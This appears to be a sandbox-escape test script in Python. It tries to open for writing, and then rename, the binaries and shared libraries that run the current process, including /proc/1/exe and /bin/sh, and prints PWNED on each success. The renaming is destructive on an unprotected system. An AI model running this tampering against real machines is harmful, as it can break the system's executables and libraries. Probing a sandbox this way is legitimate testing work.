"""Overwrite the programs that run us: /proc/self/exe, the zygote's, the shell, shared libraries that are mapped.

Shows: PWNED on stdout.
"""

import os
import sys
from contextlib import suppress

paths = {"/proc/self/exe", f"/proc/{os.getppid()}/exe", "/proc/1/exe", sys.executable, "/bin/sh", "/bin/sleep"}
with suppress(OSError), open("/proc/self/maps") as maps:
    paths |= {line.split()[-1] for line in maps if "/" in line}
for path in sorted(paths):
    if path.startswith(("/dev/shm", "/memfd")):
        continue
    for flags in (os.O_RDWR, os.O_WRONLY | os.O_APPEND):
        with suppress(OSError):
            os.close(os.open(path, flags))
            print("PWNED", path)
    with suppress(OSError):
        os.rename(path, path + ".lydite-attack")
        print("PWNED renamed", path)
